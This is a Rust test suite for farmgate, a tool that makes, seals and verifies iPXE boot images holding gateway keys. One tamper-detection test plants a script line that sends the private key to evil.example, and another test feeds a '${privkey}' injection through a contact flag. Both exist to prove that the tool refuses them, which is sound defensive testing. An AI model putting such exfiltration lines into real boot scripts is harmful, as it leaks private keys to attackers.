//! Boot images: made, sealed and read by the program, and read by others.

use std::path::Path;
use std::process::Command;
use std::process::Output;

use tempfile::TempDir;

use crate::reroot::stock_dir;

/// DESIGN: at most 1.7 MiB with Debian's iPXE.
const MOST: u64 = 17 * 1024 * 1024 / 10;

/// A state with one gateway, in a folder of its own.
struct Farm {
    dir: TempDir,
}

impl Farm {
    fn new() -> Self {
        Self::with_key_type("rsa2048")
    }

    fn with_key_type(key_type: &str) -> Self {
        let farm = Self { dir: TempDir::new().unwrap() };
        let url = "https://boot.example.org";
        farm.ok(&["init", "--url", url, "--key-type", key_type]);
        farm.ok(&["gateway", "add", "lab-1"]);
        farm
    }

    fn path(&self, name: &str) -> String {
        self.dir.path().join(name).to_str().unwrap().to_owned()
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(env!("CARGO_BIN_EXE_farmgate"))
            .current_dir(&self.dir)
            .env("FARMGATE_IPXE", stock_dir())
            .env_remove("FARMGATE_STATE")
            .arg("--state")
            .arg(self.path("state"))
            .args(args)
            .output()
            .unwrap()
    }

    fn ok(&self, args: &[&str]) -> String {
        let output = self.run(args);
        let errors = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{args:?}: {errors}");
        String::from_utf8(output.stdout).unwrap()
    }

    /// Fails with one line, which is given back.
    fn refused(&self, args: &[&str]) -> String {
        let output = self.run(args);
        assert_eq!(output.status.code(), Some(1), "{args:?} did not fail as it should");
        let line = String::from_utf8(output.stderr).unwrap();
        assert_eq!(line.lines().count(), 1, "{line}");
        line
    }

    fn bytes(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.path(name)).unwrap()
    }

    fn write(&self, name: &str, bytes: &[u8]) {
        std::fs::write(self.path(name), bytes).unwrap();
    }

    fn verified(&self, name: &str) -> serde_json::Value {
        serde_json::from_str(&self.ok(&["--json", "iso", "verify", name])).unwrap()
    }
}

#[test]
fn an_image_says_what_is_on_it_and_keeps_its_key_to_itself() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1"]);
    let report = farm.verified("lab-1.iso");
    assert_eq!(report["identity"]["subject"], "CN=lab-1");
    assert_eq!(report["identity"]["key_fits"], true);
    assert_eq!(report["root_is_this_ca"], true);
    assert_eq!(report["urls"][0], "https://boot.example.org");
    let starts = serde_json::json!(["bios-cd", "uefi-cd", "bios-usb", "uefi-usb"]);
    assert_eq!(report["starts"], starts);
    let image = std::fs::metadata(farm.path("lab-1.iso")).unwrap();
    assert!(image.len() <= MOST, "{} bytes", image.len());
    let mode = std::os::unix::fs::PermissionsExt::mode(&image.permissions());
    assert_eq!(mode & 0o777, 0o600, "it holds a private key");
    let text = farm.ok(&["iso", "verify", "lab-1.iso"]);
    for word in ["PRIVATE", "privkey", "MII"] {
        assert!(!text.contains(word) && !report.to_string().contains(word));
    }
    // Without a state, everything but whose root it is.
    let bare = Command::new(env!("CARGO_BIN_EXE_farmgate"))
        .args(["--state", "/nonexistent", "--json", "iso", "verify"])
        .arg(farm.path("lab-1.iso"))
        .output()
        .unwrap();
    let bare: serde_json::Value = serde_json::from_slice(&bare.stdout).unwrap();
    assert_eq!(bare["root_is_this_ca"], serde_json::Value::Null);
    assert_eq!(bare["identity"]["subject"], "CN=lab-1");
}

/// What a device has behind its image is another matter (src/iso/sources.rs).
#[test]
fn a_file_that_is_larger_than_any_image_is_none() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1"]);
    let file = std::fs::OpenOptions::new().write(true).open(farm.path("lab-1.iso")).unwrap();
    file.set_len(100 << 20).unwrap();
    assert!(farm.refused(&["iso", "verify", "lab-1.iso"]).contains("larger than"));
}

/// Whoever stands in front of a gateway sees whose it is, and whom to call.
#[test]
fn the_medium_names_its_gateway_and_a_contact() {
    let farm = Farm::new();
    let named =
        |file: &str, text: &str| memchr::memmem::find(&farm.bytes(file), text.as_bytes()).is_some();
    farm.ok(&["iso", "make", "lab-1", "-o", "nobody.iso"]);
    assert!(named("nobody.iso", "\nset fg-name lab-1 ||\n"));
    assert!(!named("nobody.iso", "\nset fg-contact"));
    let config = farm.path("state/farmgate.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    let called = text.replace("[media]\n", "[media]\ncontact = \"farm team, +49 30 1234\"\n");
    assert_ne!(called, text);
    std::fs::write(&config, called).unwrap();
    farm.ok(&["iso", "make", "lab-1", "-o", "team.iso"]);
    assert!(named("team.iso", "\nset fg-contact farm team, +49 30 1234 ||\n"));
    farm.ok(&["iso", "make", "lab-1", "-o", "other.iso", "--contact", "room 101"]);
    assert!(named("other.iso", "\nset fg-contact room 101 ||\n"));
    assert_eq!(
        farm.run(&["iso", "make", "lab-1", "--contact", "${privkey}"]).status.code(),
        Some(2)
    );
}

/// Another day, another folder, another umask, without the cache.
#[test]
fn the_same_input_gives_the_same_bytes() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1"]);
    farm.ok(&["iso", "make", "lab-1", "-o", "cached.iso"]);
    std::fs::remove_dir_all(farm.path("state/cache")).unwrap();
    std::fs::create_dir(farm.path("state/cache")).unwrap();
    std::fs::create_dir(farm.path("elsewhere")).unwrap();
    let later = crate::clock::shifted("+400d").unwrap_or_default();
    let status = Command::new(env!("CARGO_BIN_EXE_farmgate"))
        .envs(later)
        .current_dir(farm.path("elsewhere"))
        .env("FARMGATE_IPXE", stock_dir())
        .env("TZ", "Asia/Tokyo")
        .env("LC_ALL", "C")
        .env("USER", "somebody")
        .args(["--state", &farm.path("state"), "iso", "make", "lab-1"])
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(farm.bytes("lab-1.iso"), farm.bytes("cached.iso"));
    assert_eq!(farm.bytes("lab-1.iso"), farm.bytes("elsewhere/lab-1.iso"));
}

#[test]
fn sealing_again_replaces_the_identity_and_touches_nothing_else() {
    let farm = Farm::new();
    farm.ok(&["gateway", "add", "lab-2"]);
    farm.ok(&["iso", "base", "-o", "base.iso"]);
    assert_eq!(farm.verified("base.iso")["identity"], serde_json::Value::Null);
    farm.ok(&["iso", "make", "lab-1", "lab-2", "--out-dir", "images"]);
    farm.ok(&["iso", "seal", "images/lab-1.iso", "--gateway", "lab-2", "-o", "resealed.iso"]);
    assert_eq!(farm.bytes("resealed.iso"), farm.bytes("images/lab-2.iso"));
    let (base, sealed) = (farm.bytes("base.iso"), farm.bytes("resealed.iso"));
    assert_eq!(base.len(), sealed.len());
    let differs: Vec<_> = (0..base.len()).filter(|at| base[*at] != sealed[*at]).collect();
    assert!(differs.last().unwrap() - differs.first().unwrap() < 8192);
    // In place, too.
    farm.ok(&["iso", "seal", "base.iso", "--gateway", "lab-2", "-o", "base.iso"]);
    assert_eq!(farm.bytes("base.iso"), sealed);
}

#[test]
fn a_forgotten_key_is_gone_and_the_image_still_has_it() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "--forget-key"]);
    assert_eq!(farm.verified("lab-1.iso")["identity"]["key_fits"], true);
    let line = farm.refused(&["iso", "make", "lab-1", "-o", "again.iso"]);
    assert!(line.contains("private key of gateway lab-1 is not kept here"), "{line}");
    assert!(!Path::new(&farm.path("again.iso")).exists());
}

#[test]
fn what_is_no_image_is_refused_and_what_stood_there_stays() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let slot = memchr::memmem::find(&good, b"slot 1 begins").unwrap();
    let twice = [good.as_slice(), b"# farmgate slot 1 begins\n"].concat();
    let mut damaged = good.clone();
    damaged[slot + 8192 + 30] ^= 1;
    let mut no_slot = good.clone();
    no_slot[slot] ^= 1;
    for (name, bytes, reason) in [
        ("empty", &b""[..], "not an ISO 9660 image"),
        ("foreign", b"hello", "not an ISO 9660 image"),
        ("cut", &good[..good.len() - 5000], "truncated"),
        ("slotless", &no_slot, "no slot"),
        ("doubled", &twice, "more than one slot"),
        ("damaged", &damaged, "slot is damaged"),
    ] {
        farm.write(name, bytes);
        farm.write("out.iso", b"what stood there");
        let line = farm.refused(&["iso", "seal", name, "--gateway", "lab-1", "-o", "out.iso"]);
        assert!(line.contains(name) && line.contains(reason), "{name}: {line}");
        assert_eq!(farm.bytes("out.iso"), b"what stood there");
        let line = farm.refused(&["iso", "verify", name]);
        assert!(line.contains(name), "{name}: {line}");
    }
    farm.ok(&["iso", "seal", "good.iso", "--gateway", "lab-1", "-o", "out.iso"]);
    assert_eq!(farm.bytes("out.iso"), good);
}

#[test]
fn verify_sees_what_does_not_belong_together() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let root = memchr::memmem::find(&good, b"# root: ").unwrap() + 8;
    let change = |at: usize, what: &[u8]| {
        let mut image = good.clone();
        image[at..at + what.len()].copy_from_slice(what);
        image
    };
    // The root in the UEFI binary stands in clear.
    let hex = std::str::from_utf8(&good[root..root + 64]).unwrap();
    let fingerprint: farmgate::identity::Fingerprint = hex.parse().unwrap();
    let in_efi = memchr::memmem::find(&good, fingerprint.as_bytes()).unwrap();
    for (image, reason) in [
        (change(root, &[b'0'; 64]), "is not the root that the image names"),
        (change(in_efi, &[7; 32]), "UEFI does not trust"),
        (change(in_efi, farmgate::ipxe::STOCK_ROOT.as_bytes()), "trusts iPXE's own root"),
        (change(446, &[0; 32]), "it starts only as bios-cd, uefi-cd"),
    ] {
        farm.write("bad.iso", &image);
        let line = farm.refused(&["iso", "verify", "bad.iso"]);
        assert!(line.contains(reason), "{line}");
    }
    farm.ok(&["iso", "verify", "good.iso"]);
}

#[test]
fn any_damage_is_survived() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let now = time::OffsetDateTime::UNIX_EPOCH;
    // A simple generator: where to damage matters more than how random it is.
    let mut state = 1u64;
    let mut random = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        (state >> 33) as usize % below
    };
    for round in 0..24 {
        let mut image = good.clone();
        let end = [45_000, 48_000, image.len()][round % 3];
        for _ in 0..=random(40) {
            let at = 32_768 + random(end - 32_768);
            image[at] = random(256) as u8;
        }
        image.truncate(image.len() - random(2) * random(image.len()));
        let _ = farmgate::iso::verify(&image, &farmgate::iso::AtHand::default(), now);
    }
}

#[test]
fn a_p256_farm_needs_an_ipxe_that_can() {
    let farm = Farm::with_key_type("p256");
    let kernel = std::fs::read(stock_dir().join("ipxe.lkrn")).unwrap();
    let binary = farmgate::ipxe::Binary::read(farmgate::ipxe::Kind::Bios, &kernel).unwrap();
    let able = binary.has_ecdsa();
    let version = binary.version().unwrap();
    assert_eq!(able, !version.starts_with("1."), "{version}");
    if able {
        farm.ok(&["iso", "make", "lab-1"]);
        assert_eq!(farm.verified("lab-1.iso")["ecdsa"], true);
    } else {
        let line = farm.refused(&["iso", "make", "lab-1"]);
        assert!(line.contains("iPXE 2.0 or later") && line.contains(&version), "{line}");
        // Nor can it be sealed into an image of an RSA farm.
        let rsa = Farm::new();
        rsa.ok(&["iso", "base", "-o", "base.iso"]);
        let base = rsa.path("base.iso");
        let line = farm.refused(&["iso", "seal", &base, "--gateway", "lab-1", "-o", "x.iso"]);
        assert!(line.contains("iPXE 2.0 or later"), "{line}");
    }
}

#[test]
fn what_is_missing_is_named_with_its_package() {
    let farm = Farm::new();
    std::fs::create_dir(farm.path("nothing")).unwrap();
    for (flag, package) in [("--ipxe", "package ipxe"), ("--syslinux", "package isolinux")] {
        let line = farm.refused(&["iso", "make", "lab-1", flag, "nothing"]);
        assert!(line.contains(package) && line.contains(flag), "{line}");
    }
    let line = farm.refused(&["iso", "make", "lab-1", "--ipxe", "nothing"]);
    assert!(line.contains("trixie"), "{line}");
    let bare = Command::new(env!("CARGO_BIN_EXE_farmgate"))
        .args(["--state", &farm.path("state"), "iso", "make", "lab-1"])
        .args(["--ipxe-source", &farm.path("nothing"), "-o", &farm.path("x.iso")])
        .env_remove("FARMGATE_IPXE")
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&bare.stderr).contains("not an iPXE source tree"));
}

#[test]
fn the_script_follows_the_flags() {
    let farm = Farm::new();
    let script = |extra: &[&str]| {
        farm.ok(&[&["iso", "base", "-o", "base.iso"], extra].concat());
        let image = farm.bytes("base.iso");
        let start = memchr::memmem::find(&image, b"#!ipxe\n").unwrap();
        String::from_utf8_lossy(&image[start..start + 16_000]).into_owned()
    };
    let plain = script(&[]);
    assert!(plain.contains("\nifconf -c dhcp ") && !plain.contains("\nshell"));
    let two = script(&["--url", "https://a.example", "--url", "https://b.example:8443"]);
    assert!(
        two.find("chain --timeout 30000 https://a.example/boot/ipxe").unwrap()
            < two.find("chain --timeout 30000 https://b.example:8443/boot/ipxe").unwrap()
    );
    assert!(!two.contains("boot.example.org"));
    assert!(script(&["--ntp", "time.example"]).contains("\nntp time.example || "));
    assert!(!script(&["--ntp", "none"]).contains("\nntp "));
    assert!(script(&["--debug"]).contains("\nshell ||"));
    let fixed = script(&["--address", "192.0.2.9/24", "--router", "192.0.2.1"]);
    assert!(fixed.contains("/gateway 192.0.2.1 ||") && !fixed.contains("\ndhcp "));
    for bad in
        [["--url", "http://a.example"], ["--url", "https://a/${x}"], ["--address", "1.2.3.4"]]
    {
        let output = farm.run(&["iso", "base", "-o", "x.iso", bad[0], bad[1]]);
        assert_eq!(output.status.code(), Some(2), "{bad:?}");
    }
}

/// xorriso and mtools agree on what is in the image.
#[test]
fn others_read_the_same_from_it() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1"]);
    let image = farm.path("lab-1.iso");
    let tool = |program: &str, args: &[&str]| match Command::new(program).args(args).output() {
        Ok(output) => Some(output),
        Err(_) => {
            println!("SKIPPED: no {program} here to read the image with");
            None
        }
    };
    let extract = ["-osirrox", "on", "-indev", &image, "-extract", "/", &farm.path("iso")];
    if let Some(output) = tool("xorriso", &extract) {
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        let kernel = farm.bytes("iso/IPXE.LKRN");
        assert!(kernel.len() > 300_000);
        let script = farm.bytes("iso/AUTOEXEC.IPXE");
        assert!(script.starts_with(b"#!ipxe\n"));
        let boot = ["-indev", &image, "-report_el_torito", "plain"];
        let report = tool("xorriso", &boot).unwrap();
        let report = String::from_utf8_lossy(&report.stdout).into_owned();
        assert!(report.contains("BIOS") && report.contains("UEFI"), "{report}");
        let efi = farm.path("iso/EFI.IMG");
        if let Some(output) = tool("mtype", &["-i", &efi, "::/autoexec.ipxe"]) {
            assert_eq!(output.stdout, script, "BIOS and UEFI read the same bytes");
        }
        if let Some(output) = tool("mtype", &["-i", &efi, "::/EFI/BOOT/BOOTX64.EFI"]) {
            let name = ["ipxe.efi", "ipxe-amd64.efi"].map(|n| stock_dir().join(n));
            let stock = std::fs::read(name.iter().find(|p| p.exists()).unwrap()).unwrap();
            assert_eq!(output.stdout.len(), stock.len());
        }
        if let Some(output) = tool("fsck.fat", &["-n", &efi]) {
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stdout));
        }
    }
}

/// A derivation has no state: the CA's certificate and the address are all it knows.
#[test]
fn a_base_image_needs_no_state() {
    let farm = Farm::new();
    farm.ok(&["iso", "base", "--ntp", "none", "-o", &farm.path("with.iso")]);
    std::fs::rename(farm.path("state"), farm.path("elsewhere")).unwrap();
    let (ca, output) = (farm.path("elsewhere/pki/ca.crt"), farm.path("without.iso"));
    let args = ["iso", "base", "--ca", &ca, "--ntp", "none", "-o", &output];
    let url = ["--url", "https://boot.example.org"];
    farm.ok(&[&args[..], &url].concat());
    assert!(farm.bytes("with.iso") == farm.bytes("without.iso"));
    assert!(farm.refused(&args).contains("give --url"));
}

#[test]
fn of_several_certificates_the_one_of_the_key_is_sealed() {
    let farm = Farm::new();
    farm.ok(&["iso", "base", "-o", &farm.path("base.iso")]);
    farm.ok(&["gateway", "add", "lab-2"]);
    let pem = |gateway: &str, end: &str| {
        let mut files = std::fs::read_dir(farm.path(&format!("state/gateways/{gateway}"))).unwrap();
        let file = files.find_map(|f| f.ok().filter(|f| f.path().to_string_lossy().ends_with(end)));
        file.unwrap().path().to_str().unwrap().to_owned()
    };
    let (one, two, key) = (pem("lab-1", ".crt"), pem("lab-2", ".crt"), pem("lab-2", ".key"));
    let (base, sealed) = (farm.path("base.iso"), farm.path("sealed.iso"));
    farm.ok(&["iso", "seal", &base, "--cert", &one, "--cert", &two, "--key", &key, "-o", &sealed]);
    assert_eq!(farm.verified("sealed.iso")["identity"]["subject"], "CN=lab-2");
    let refused = farm.refused(&[
        "iso", "seal", &base, "--cert", &one, "--cert", &one, "--key", &key, "-o", &sealed,
    ]);
    assert!(refused.contains("none of the 2 certificates"), "{refused}");
}

/// iPXE says nothing, sends no certificate, and is refused for ever.
#[test]
fn a_certificate_that_ipxe_cannot_use_is_not_sealed() {
    let farm = Farm::new();
    farm.ok(&["iso", "base", "-o", "base.iso"]);
    let openssl = |words: &str| {
        let output = Command::new("openssl")
            .current_dir(&farm.dir)
            .args(words.split_whitespace())
            .output()
            .expect("openssl is needed for this test");
        assert!(output.status.success(), "{words}: {output:?}");
    };
    let signing = "x509 -req -CA state/pki/ca.crt -CAkey state/pki/ca.key -CAcreateserial -days 9";
    let seal = ["iso", "seal", "base.iso", "--cert", "x.crt", "--key", "x.key", "-o", "x.iso"];
    for (key, options, reason) in [
        ("rsa:2048", "-sigopt rsa_padding_mode:pss", "RSASSA-PSS"),
        ("ec -pkeyopt ec_paramgen_curve:P-256", "", "the CA signs with RSA"),
        ("rsa:2048", "-sha1", "RSA with SHA-1"),
    ] {
        openssl(&format!("req -new -newkey {key} -nodes -subj /CN=x -keyout x.key -out x.csr"));
        openssl(&format!("{signing} -in x.csr -out x.crt {options}"));
        let line = farm.refused(&seal);
        assert!(line.contains("no gateway could boot") && line.contains(reason), "{line}");
    }
    openssl("req -new -newkey rsa:2048 -nodes -subj /CN=x -keyout x.key -out x.csr");
    openssl(&format!("{signing} -in x.csr -out x.crt -sha512"));
    farm.ok(&seal);
    assert_eq!(farm.verified("x.iso")["identity"]["subject"], "CN=x");
}

/// The PEM files of a gateway in a farm's state.
fn pem(farm: &Farm, gateway: &str, end: &str) -> String {
    let mut files = std::fs::read_dir(farm.path(&format!("state/gateways/{gateway}"))).unwrap();
    let file = files.find_map(|f| f.ok().filter(|f| f.path().to_string_lossy().ends_with(end)));
    file.unwrap().path().to_str().unwrap().to_owned()
}

/// The same without a state: a machine that only seals.
fn seal_elsewhere(farm: &Farm, args: &[&str]) -> (bool, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_farmgate"))
        .current_dir(&farm.dir)
        .args(["--state", "/nonexistent", "iso", "seal"])
        .args(args)
        .output()
        .unwrap();
    (output.status.success(), String::from_utf8(output.stderr).unwrap())
}

/// Such a stick used to be made without a word, and was then refused for ever.
#[test]
fn an_identity_of_another_fleet_is_not_sealed() {
    let (farm, other) = (Farm::new(), Farm::new());
    farm.ok(&["iso", "base", "-o", "base.iso"]);
    let base = farm.path("base.iso");
    let line = other.refused(&["iso", "seal", &base, "--gateway", "lab-1", "-o", "x.iso"]);
    assert!(line.contains("did not issue the certificate"), "{line}");
    assert!(!Path::new(&other.path("x.iso")).exists());
    farm.ok(&["iso", "seal", &base, "--gateway", "lab-1", "-o", "x.iso"]);

    // The image carries the CA's certificate, so no state is needed to tell.
    let (cert, key) = (pem(&farm, "lab-1", ".crt"), pem(&farm, "lab-1", ".key"));
    let own = [&base, "--cert", &cert, "--key", &key, "-o", "y.iso"];
    assert_eq!(seal_elsewhere(&farm, &own), (true, String::new()));
    assert_eq!(farm.bytes("x.iso"), farm.bytes("y.iso"));
    let (their_cert, their_key) = (pem(&other, "lab-1", ".crt"), pem(&other, "lab-1", ".key"));
    let theirs = [&base, "--cert", &their_cert, "--key", &their_key, "-o", "z.iso"];
    let (sealed, said) = seal_elsewhere(&farm, &theirs);
    assert!(!sealed && said.contains("did not issue the certificate"), "{said}");

    // An image of an older farmgate does not: whoever knows the CA can tell.
    let mut old = farm.bytes("base.iso");
    let at = memchr::memmem::find(&old, b"\n# ca: ").unwrap();
    old[at + 3..at + 5].copy_from_slice(b"??");
    farm.write("old.iso", &old);
    let args = ["old.iso", "--cert", &cert, "--key", &key, "-o", "z.iso"];
    let (sealed, said) = seal_elsewhere(&farm, &args);
    assert!(!sealed && said.contains("give --ca FILE"), "{said}");
    let ca = farm.path("state/pki/ca.crt");
    assert_eq!(seal_elsewhere(&farm, &[&args[..], &["--ca", &ca]].concat()), (true, String::new()));
    farm.ok(&["iso", "seal", "old.iso", "--gateway", "lab-1", "-o", "z.iso"]);
    let line =
        other.refused(&["iso", "seal", &farm.path("old.iso"), "--gateway", "lab-1", "-o", "x"]);
    assert!(line.contains("neither on the image nor in this state"), "{line}");
}

/// `verify` used to say of it that the private key fits, and nothing else.
#[test]
fn verify_says_that_an_identity_is_of_another_fleet() {
    let (farm, other) = (Farm::new(), Farm::new());
    farm.ok(&["iso", "make", "lab-1", "-o", "own.iso"]);
    other.ok(&["iso", "make", "lab-1", "-o", "theirs.iso"]);
    let (mut own, theirs) = (farm.bytes("own.iso"), other.bytes("theirs.iso"));
    assert_eq!(farm.verified("own.iso")["identity"]["issued_by_root"], true);
    let slot = |image: &[u8]| farmgate::ipxe::slot::find(image).unwrap();
    let place = slot(&own);
    own[place].copy_from_slice(&theirs[slot(&theirs)]);
    farm.write("mixed.iso", &own);
    let line = farm.refused(&["iso", "verify", "mixed.iso"]);
    assert!(line.contains("did not issue its certificate"), "{line}");
    assert!(!line.contains("does not belong"), "its key fits: {line}");
}

/// A line that sends the private key away, for instance, used to go unnoticed.
#[test]
fn verify_notices_every_change_outside_of_the_slot() {
    let farm = Farm::new();
    farm.ok(&["iso", "make", "lab-1", "-o", "good.iso"]);
    let good = farm.bytes("good.iso");
    let report = farm.verified("good.iso");
    assert_eq!(report["not_compared"], serde_json::json!([]), "{report}");

    let mut spy = good.clone();
    let at = memchr::memmem::find(&spy, b"\n# A missing intermediate").unwrap() + 1;
    let line = b"chain http://evil.example/${privkey:uristring} ||\n";
    spy[at..at + line.len()].copy_from_slice(line);
    farm.write("spy.iso", &spy);
    let line = farm.refused(&["iso", "verify", "spy.iso"]);
    assert!(line.contains("its script is not the one that this farmgate writes"), "{line}");
    // It is known by the image alone.
    let now = time::OffsetDateTime::now_utc();
    let nothing = farmgate::iso::AtHand::default();
    let report = farmgate::iso::verify(&spy, &nothing, now).unwrap();
    assert!(report.problems.iter().any(|problem| problem.contains("its script")), "{report}");
    let report = farmgate::iso::verify(&good, &nothing, now).unwrap();
    assert!(report.problems.is_empty() && report.not_compared.len() == 2, "{report}");

    // A byte here and there, in what firmware reads and in what nobody does.
    let dir = stock_dir();
    let ipxe = farmgate::iso::sources::Ipxe::find(Some(&dir)).unwrap();
    let own = std::env::var_os("FARMGATE_SYSLINUX").map(std::path::PathBuf::from);
    let syslinux = farmgate::iso::sources::Syslinux::find(own.as_deref()).unwrap();
    let at_hand = farmgate::iso::AtHand { ca: None, ipxe: Some(&ipxe), syslinux: Some(&syslinux) };
    let report = farmgate::iso::verify(&good, &at_hand, now).unwrap();
    assert!(report.problems.is_empty() && report.not_compared.is_empty(), "{report}");
    let slot = farmgate::ipxe::slot::find(&good).unwrap();
    let loader = memchr::memmem::find(&good, b"MZ").unwrap();
    // What a part holds shows where that part is at hand; all else does by itself.
    let places = [(3, true), (loader + 300_000, true), (good.len() / 3, true)];
    let alone = [445, 446, 5000, 33_000, 40_000, 43_010, 45_000, good.len() - 1];
    for (at, parts) in places.into_iter().chain(alone.map(|at| (at, false))) {
        if slot.contains(&at) {
            continue;
        }
        let mut image = good.clone();
        image[at] ^= 0x10;
        let noticed = farmgate::iso::verify(&image, if parts { &at_hand } else { &nothing }, now);
        let noticed = noticed.map_or(true, |report| !report.problems.is_empty());
        assert!(noticed, "byte {at} of {}", good.len());
    }
}

/// What is not there to compare with is said, and is no fault of the image.
#[test]
fn verify_says_what_it_could_not_compare() {
    let farm = Farm::new();
    farm.ok(&["iso", "base", "-o", "base.iso", "--address", "192.0.2.9/24", "--debug"]);
    let mut stock = farmgate::iso::sources::Ipxe::find(Some(&stock_dir())).unwrap();
    let image = farm.bytes("base.iso");
    let verify = |ipxe: &farmgate::iso::sources::Ipxe| {
        let at_hand = farmgate::iso::AtHand { ipxe: Some(ipxe), ..Default::default() };
        farmgate::iso::verify(&image, &at_hand, time::OffsetDateTime::now_utc()).unwrap()
    };
    let report = verify(&stock);
    assert!(report.problems.is_empty(), "{report}");
    assert!(!report.not_compared.iter().any(|what| what.contains("iPXE")), "{report}");
    // Of the same version, and yet another one.
    let at = stock.efi.bytes.len() / 2;
    stock.efi.bytes[at] ^= 1;
    let report = verify(&stock);
    assert!(report.problems.iter().any(|p| p.contains("its iPXE for UEFI is not")), "{report}");
    // What was named must be there.
    std::fs::create_dir(farm.path("nothing")).unwrap();
    let line = farm.refused(&["iso", "verify", "base.iso", "--ipxe", "nothing"]);
    assert!(line.contains("no ipxe.lkrn"), "{line}");
}
